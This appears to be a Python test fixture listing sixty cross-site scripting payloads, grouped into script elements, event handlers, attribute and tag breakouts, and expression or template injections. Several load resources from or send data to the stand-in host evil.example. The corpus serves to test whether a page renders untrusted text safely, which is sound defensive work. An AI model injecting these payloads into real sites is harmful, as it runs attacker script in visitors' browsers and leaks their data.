"""Sixty texts that would run a script if a page treated them as anything but text.

A text that runs sets `window.__pwned`, opens a dialog, sends a request to another host, or violates the
Content-Security-Policy; a strict window notices all four. They are grouped by the mistake that lets them in.
"""

from __future__ import annotations

RUN = "window.__pwned=1"

ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script/x>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=/static/app.js?evil></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mi><script>{RUN}</script></mi></math>",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN[7:]}"></iframe>',
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/leak)}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button autofocus>send</button></form>",
)

HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<img/src='x'/onerror={RUN}>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/pixel.png 1x'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=x onbegin={RUN}>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<div style='animation:x 1s' onanimationstart={RUN}>",
    f"<a href=x onmouseover={RUN}>over</a>",
    f"<p style=\"background:url('javascript:{RUN}')\">",
)

WAYS_OUT = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</pre></code><img src=x onerror={RUN}>",
)

EXPRESSIONS = (
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"`+({RUN})+`",
    f"');{RUN};//",
    "__proto__",
    "constructor",
    "#/jobs?status=<img src=x onerror=alert(1)>",
)

CORPUS = ELEMENTS + HANDLERS + WAYS_OUT + EXPRESSIONS
